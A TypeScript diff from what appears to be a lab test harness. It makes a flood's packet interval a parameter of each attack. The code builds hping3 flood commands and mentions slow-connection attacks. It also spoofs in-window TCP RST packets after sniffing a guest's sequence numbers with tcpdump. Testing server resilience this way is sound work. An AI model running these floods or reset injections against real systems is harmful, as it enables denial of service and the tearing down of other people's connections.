@@ -2,19 +2,19 @@
 
 import { address, attackersAddress, guestsAddress, type Victim } from "./victim.ts";
 
-/** One attack: runs for so many seconds. */
-export type Attack = (victim: Victim, seconds: number) => Promise<string>;
+/** One attack: runs for so many seconds; a flood sends a packet every `intervalUs`. */
+export type Attack = (victim: Victim, seconds: number, intervalUs: number) => Promise<string>;
 
-/** Time between two packets of a flood. */
-const intervalUs = 100;
 /** Connections of a slow attack: more than a server has by default, all within two seconds. */
 const slowConnections = 1500;
 const slowRate = 1000;
 
 function flood(...more: string[]): Attack {
-  const hping = ["hping3", "-q", "-n", "-i", `u${intervalUs}`, ...more, address].join(" ");
-  // hping3 ends by an interrupt, and with a status of its own.
-  return (victim, seconds) => victim.run("sh", "-c", `timeout -s INT ${seconds} ${hping}; true`);
+  return (victim, seconds, intervalUs) => {
+    const hping = ["hping3", "-q", "-n", "-i", `u${intervalUs}`, ...more, address].join(" ");
+    // hping3 ends by an interrupt, and with a status of its own.
+    return victim.run("sh", "-c", `timeout -s INT ${seconds} ${hping}; true`);
+  };
 }
 
 function slow(...mode: string[]): Attack {
@@ -32,14 +32,14 @@ const request = /10\.78\.0\.1\.(\d+) > .* seq \d+:(\d+),.* length 31\b/;
  * RST for a connection that exists, at a number inside its window: all that an attacker can guess.
  * Only the exact number may end it (RFC 5961 §3.2).
  */
-const resetInside: Attack = async (victim, seconds) => {
+const resetInside: Attack = async (victim, seconds, intervalUs) => {
   const filter = `src host ${guestsAddress} and dst port 80`;
   const show = ["tcpdump", "-nn", "-S", "-l", "-c", "100", "-i", victim.network.device, filter];
   const seen = request.exec(await victim.run("timeout", "30", ...show));
   if (!seen) throw new Error("no guest has asked anything");
   const [, port, end] = seen;
   const name = ["-R", "-a", guestsAddress, "-s", port!, "-k", "-p", "80"];
-  return flood(...name, "-M", `${(Number(end) + 4000) % 2 ** 32}`)(victim, seconds);
+  return flood(...name, "-M", `${(Number(end) + 4000) % 2 ** 32}`)(victim, seconds, intervalUs);
 };
 
 const web = ["-p", "80"];
